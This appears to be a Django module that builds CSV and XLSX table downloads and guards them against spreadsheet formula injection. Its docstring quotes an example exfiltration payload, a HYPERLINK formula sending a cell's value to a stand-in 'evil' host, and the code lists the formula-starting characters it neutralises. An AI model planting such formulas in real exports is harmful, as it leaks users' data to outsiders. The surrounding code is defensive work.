"""Cells for CSV and XLSX downloads that a spreadsheet shows and never runs.

Every export of every app writes its rows through here. Text that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return is a formula (or becomes one) when Excel or LibreOffice
opens the file: a name such as `=HYPERLINK("http://evil/?"&A1, "click")` would send the
sheet's figures away (OWASP "CSV injection"). Such text gets a leading single quote; in
XLSX it is also written as a string cell, never a formula. Numbers, dates and empty cells
stay as they are, so a negative figure is still a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from django.http import HttpResponse

from callcenter.clock import format_mss

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: Any) -> Any:
    """The value with text that a spreadsheet would run neutralised; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer` whose rows go through `cell_safe`."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell_safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)


def xlsx_append(sheet, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet: text neutralised and stored as a string cell
    (openpyxl would store text that starts with `=` as a formula)."""
    sheet.append([cell_safe(v) for v in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


# --- Tables people hand on (issue 18, item 12) ---------------------------------------------
# A table export says what it covers (the period and the filters, above the table), names
# each column once, and shows figures as people read them: in a CSV a rate is "85.0%" and a
# duration "3:25" (minutes keep counting past the hour, as [mm]:ss does); in an XLSX the
# cell keeps the number (0.85, 205 s as a fraction of a day) with Excel's number format, so
# the sheet can still sum and sort.

TEXT, INTEGER, NUMBER, PERCENT, DURATION = "text", "integer", "number", "percent", "duration"
XLSX_FORMATS = {INTEGER: "0", NUMBER: "0.0", PERCENT: "0.0%", DURATION: "[mm]:ss"}
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_value(value: Any, kind: str) -> Any:
    """A figure as a CSV cell a person reads: None empty, a rate as a percent, seconds as
    m:ss, a mean with one decimal."""
    if value is None:
        return ""
    if kind == PERCENT:
        return f"{value * 100:.1f}%"
    if kind == DURATION:
        return format_mss(value)
    if kind == NUMBER and isinstance(value, float):
        return round(value, 1)
    return value


def xlsx_value(value: Any, kind: str) -> Any:
    if value is None:
        return None
    if kind == DURATION:
        return value / 86400  # Excel's time is a fraction of a day
    return value


@dataclass
class TableExport:
    """One table to download: a title, the lines that say what it covers (label, value),
    the columns (header, kind) and the rows (raw values: rates as fractions, durations in
    seconds)."""

    title: str
    about: list[tuple[str, str]]
    columns: list[tuple[str, str]]
    rows: list[list[Any]] = field(default_factory=list)

    def __post_init__(self) -> None:
        headers = [h for h, _kind in self.columns]
        repeated = sorted({h for h in headers if headers.count(h) > 1})
        if repeated:  # a header twice (구분, 구분) is a bug in the column list, not data
            raise ValueError(f"repeated export headers: {repeated}")

    @property
    def headers(self) -> list[str]:
        return [h for h, _kind in self.columns]

    def csv_response(self, filename: str) -> HttpResponse:
        buffer = io.StringIO()
        buffer.write("\ufeff")  # Excel opens UTF-8 Korean correctly with a BOM
        writer = csv_writer(buffer)
        writer.writerow([self.title])
        writer.writerows([label, value] for label, value in self.about)
        writer.writerow([])
        writer.writerow(self.headers)
        kinds = [kind for _h, kind in self.columns]
        for row in self.rows:
            writer.writerow([csv_value(v, k) for v, k in zip(row, kinds, strict=True)])
        response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
        response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
        return response

    def xlsx_response(self, filename: str, *, sheet_title: str = "Sheet1") -> HttpResponse:
        from openpyxl import Workbook
        from openpyxl.styles import Font
        from openpyxl.utils import get_column_letter

        book = Workbook()
        sheet = book.active
        sheet.title = sheet_title[:31]
        xlsx_append(sheet, [self.title])
        sheet.cell(row=1, column=1).font = Font(bold=True, size=12)
        for label, value in self.about:
            xlsx_append(sheet, [label, value])
        sheet.append([])
        xlsx_append(sheet, self.headers)
        header_row = sheet.max_row
        for cell in sheet[header_row]:
            cell.font = Font(bold=True)
        kinds = [kind for _h, kind in self.columns]
        for row in self.rows:
            xlsx_append(sheet, [xlsx_value(v, k) for v, k in zip(row, kinds, strict=True)])
            for cell, kind in zip(sheet[sheet.max_row], kinds, strict=True):
                if kind in XLSX_FORMATS and cell.value is not None:
                    cell.number_format = XLSX_FORMATS[kind]
        for index, header in enumerate(self.headers, 1):
            width = max(len(header) * (1 if header.isascii() else 2), 8)
            sheet.column_dimensions[get_column_letter(index)].width = min(width + 2, 40)
        sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
        buffer = io.BytesIO()
        book.save(buffer)
        response = HttpResponse(buffer.getvalue(), content_type=XLSX_MIME)
        response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
        return response

    def response(self, kind: str, filename: str, *, sheet_title: str = "Sheet1") -> HttpResponse:
        if kind == "xlsx":
            return self.xlsx_response(filename, sheet_title=sheet_title)
        return self.csv_response(filename)
